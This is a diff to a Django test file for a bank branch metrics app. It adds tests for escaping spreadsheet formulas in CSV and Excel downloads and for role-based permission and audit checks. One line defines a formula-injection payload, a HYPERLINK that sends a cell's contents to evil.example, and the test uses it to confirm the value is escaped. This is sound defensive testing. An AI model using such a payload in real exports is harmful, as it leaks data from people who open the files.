@@ -13,8 +13,10 @@ from django.test import Client
 from openpyxl import load_workbook
 
 from fuwu.core import clock
+from fuwu.core.errors import Forbidden
+from fuwu.core.models import AuditEvent, OrgUnit
 from fuwu.core.services import device_token_issue
-from fuwu.measures import selectors, services
+from fuwu.measures import reports, selectors, services
 from fuwu.measures.models import Target
 from fuwu.measures.tests import factories as f
 
@@ -125,6 +127,29 @@ def test_downloads_are_what_the_page_shows(history: Any) -> None:
     assert values[1] == "五道口支行" and "no data" not in values[2:4]
 
 
+EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
+
+
+def test_a_unit_named_like_a_formula_downloads_as_text(history: Any) -> None:
+    """CSV injection: the name opens as text in a spreadsheet (leading apostrophe in CSV, a string in Excel)."""
+    OrgUnit.objects.filter(pk=history.outlet_b.pk).update(name=EVIL)
+    c = client_for(history.hq_manager)
+    asked = {"unit": history.t2.pk, "period": "2026-03"}
+    rows = list(
+        csv.reader(io.StringIO(c.get("/measures/", {**asked, "format": "csv"}).content.decode("utf-8-sig")))
+    )
+    assert [r[1] for r in rows[2:]] == ["中关村支行", "'" + EVIL]
+    assert rows[3][2] == "1"  # OB's one ticket: figures are untouched
+    sheet = load_workbook(io.BytesIO(c.get("/measures/", {**asked, "format": "xlsx"}).content)).active
+    assert sheet is not None
+    assert (sheet["B4"].value, sheet["B4"].data_type) == (EVIL, "s")
+
+
+def test_negative_figures_stay_numbers_in_the_csv() -> None:
+    text = reports.as_csv([{"code": "-OA", "label": "x", "values": {"avg_wait": -2.54}}], ["avg_wait"])
+    assert list(csv.reader(io.StringIO(text)))[1] == ["'-OA", "x", "-2.5"]  # the measure's one decimal
+
+
 def test_downloads_are_scoped_like_the_page(history: Any) -> None:
     """K3: a CSV/Excel download shows no more than its page; another outlet's file is not found."""
     teller_b = client_for(history.teller_b)
@@ -227,6 +252,52 @@ def test_targets_are_set_through_the_api_idempotently_and_only_by_managers(histo
     assert listed == []
 
 
+def test_the_target_services_refuse_a_role_without_the_permission(history: Any) -> None:
+    """K2: the rule lives in the service, so every caller (page, API, CLI) is refused the same way."""
+    kwargs: dict[str, Any] = {
+        "measure": "satisfaction",
+        "unit": history.outlet_a,
+        "baseline": 65,
+        "value": 85,
+        "start_date": dt.date(2026, 1, 1),
+        "due_date": dt.date(2026, 12, 31),
+    }
+    with pytest.raises(Forbidden):
+        services.target_set(actor=history.teller_a, **kwargs)
+    assert not Target.objects.exists()
+    target = services.target_set(actor=history.head_a, **kwargs)
+    target_id = str(target.pk)
+    with pytest.raises(Forbidden):
+        services.target_delete(actor=history.auditor, target=target)
+    assert Target.objects.filter(pk=target.pk).exists()
+    services.target_delete(actor=history.head_a, target=target)
+    audit = AuditEvent.objects.filter(action__startswith="measures.target_").order_by("pk")
+    assert [(a.action, a.actor, a.target_id) for a in audit] == [
+        ("measures.target_set", history.head_a, target_id),
+        ("measures.target_delete", history.head_a, target_id),
+    ]
+
+
+def test_the_targets_page_answers_403_to_a_role_without_the_permission(history: Any) -> None:
+    form = {
+        "measure": "satisfaction",
+        "unit": history.outlet_a.pk,
+        "baseline": "65",
+        "value": "85",
+        "start_date": "2026-01-01",
+        "due_date": "2026-12-31",
+    }
+    teller = client_for(history.teller_a)
+    assert teller.post("/measures/targets/save/", form).status_code == 403
+    assert not Target.objects.exists()
+    page = teller.get("/measures/targets/")
+    assert page.status_code == 200 and b"target-form" not in page.content
+    assert client_for(history.head_a).post("/measures/targets/save/", form).status_code == 302
+    own = Target.objects.get()  # the teller's own outlet's target: visible, but not theirs to remove
+    assert teller.post(f"/measures/targets/{own.pk}/remove/").status_code == 403
+    assert Target.objects.filter(pk=own.pk).exists()
+
+
 def test_targets_page_saves_and_removes_a_target(history: Any) -> None:
     c = client_for(history.hq_manager)
     response = c.post(
@@ -244,7 +315,8 @@ def test_targets_page_saves_and_removes_a_target(history: Any) -> None:
     target = Target.objects.get()
     assert target.history.first().history_user == history.hq_manager
     assert "投诉处理周期(自然日)" in c.get("/measures/targets/").content.decode()  # Chinese by default
-    assert client_for(history.teller_a).post(f"/measures/targets/{target.pk}/remove/").status_code == 403
+    # head office's target is not visible to a teller: missing, not forbidden
+    assert client_for(history.teller_a).post(f"/measures/targets/{target.pk}/remove/").status_code == 404
     assert c.post(f"/measures/targets/{target.pk}/remove/").status_code == 302
     assert not Target.objects.exists()
 
